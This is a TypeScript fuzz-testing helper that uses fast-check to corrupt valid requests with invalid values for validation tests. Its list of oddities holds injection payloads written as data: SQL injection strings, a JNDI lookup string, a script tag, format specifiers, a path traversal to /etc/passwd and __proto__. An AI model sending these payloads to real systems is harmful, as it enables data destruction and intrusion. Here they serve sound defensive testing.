import * as fc from "fast-check";
import { MARKER } from "./good-values.js";
import { type Draft, type DraftMembers, Pending } from "./pending.js";

/** Values that an attacker or a faulty program might send. */
const ODDITIES: readonly Draft[] = [
  null,
  "",
  " ",
  true,
  -0,
  -1,
  0,
  0.1,
  1e300,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31),
  2 ** 53,
  [],
  {},
  [[]],
  [null],
  { "": {} },
  "\u0000",
  `${MARKER}\u0000`,
  `${MARKER}\ud800`,
  `\u202e${MARKER}`,
  "\u200b",
  "e\u0301\u0302\u0303",
  "𠮷".repeat(300),
  "x".repeat(5_000),
  "x".repeat(70_000),
  `${MARKER}'; DROP TABLE patients; --`,
  `${MARKER}' OR '1'='1`,
  `\${jndi:ldap://${MARKER}.example.org/a}`,
  `<script>${MARKER}</script>`,
  `${MARKER}%00%s%n`,
  "../../../../etc/passwd",
  "__proto__",
  "00000000-0000-0000-0000-000000000000",
  "{00000000-0000-4000-8000-000000000000}",
  "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
  "today",
  "infinity",
  "2026-02-30",
  "24:00",
  "2026-06-30T23:59:60Z",
  "+275760-09-13T00:00:00Z",
  "NaN",
  "ACTIVE",
  "fullName,fullName,x.y",
];

/** Member names that no message has. Some of them are properties of every JavaScript object. */
const STRANGE_NAMES = [
  "",
  "__proto__",
  "constructor",
  "toString",
  "unknown",
  "full_name",
  "tenantId",
  "updateMask",
  "0",
];

/** Generates any value. */
export function oddValues(): fc.Arbitrary<Draft> {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...ODDITIES) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((value) => value as Draft) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
    { weight: 1, arbitrary: fc.integer() },
  );
}

/** Changes one or two values of a valid request, at any depth, to invalid ones. */
export function spoiled(good: fc.Arbitrary<DraftMembers>): fc.Arbitrary<DraftMembers> {
  return fc
    .tuple(good, fc.array(changes(), { minLength: 1, maxLength: 2 }))
    .map(([members, all]) => all.reduce((changed, { at, change }) => changeAt(changed, at, change), members));
}

/** Returns the replacement of a value; undefined removes the member. */
type Change = (value: Draft) => Draft | undefined;

function changes(): fc.Arbitrary<{ readonly at: number; readonly change: Change }> {
  const change: fc.Arbitrary<Change> = fc.oneof(
    { weight: 6, arbitrary: oddValues().map((odd) => () => odd) },
    { weight: 2, arbitrary: fc.constant(() => undefined) },
    { weight: 1, arbitrary: fc.constant((value: Draft) => [value, value]) },
    { weight: 1, arbitrary: fc.constant((value: Draft) => fc.stringify(value)) },
    {
      weight: 2,
      arbitrary: fc.tuple(fc.constantFrom(...STRANGE_NAMES), oddValues()).map(
        ([name, odd]) =>
          (value: Draft) =>
            isMembers(value) ? withMember(value, name, odd) : odd,
      ),
    },
  );
  return fc.record({ at: fc.nat({ max: 100 }), change });
}

/** Changes the value with index `at` of a message. The message itself and all nested values are counted. */
function changeAt(members: DraftMembers, at: number, change: Change): DraftMembers {
  let left = at % countOf(members);
  const visit = (value: Draft): Draft | undefined => {
    if (left-- === 0) return change(value);
    if (isMembers(value)) return mapMembers(value, visit);
    return Array.isArray(value) ? value.map((each: Draft) => visit(each) ?? null) : value;
  };
  const changed = visit(members);
  return changed !== undefined && isMembers(changed) ? changed : {};
}

function countOf(value: Draft): number {
  const inner = isMembers(value) ? Object.values(value) : Array.isArray(value) ? (value as readonly Draft[]) : [];
  return inner.reduce<number>((count, each) => count + countOf(each), 1);
}

function mapMembers(members: DraftMembers, map: (value: Draft) => Draft | undefined): DraftMembers {
  const mapped: Record<string, Draft> = Object.create(null);
  for (const [name, value] of Object.entries(members)) {
    const other = map(value);
    if (other !== undefined) mapped[name] = other;
  }
  return mapped;
}

function withMember(members: DraftMembers, name: string, value: Draft): DraftMembers {
  const changed: Record<string, Draft> = Object.assign(Object.create(null), members);
  changed[name] = value;
  return changed;
}

function isMembers(value: Draft): value is DraftMembers {
  return value !== null && typeof value === "object" && !Array.isArray(value) && !(value instanceof Pending);
}
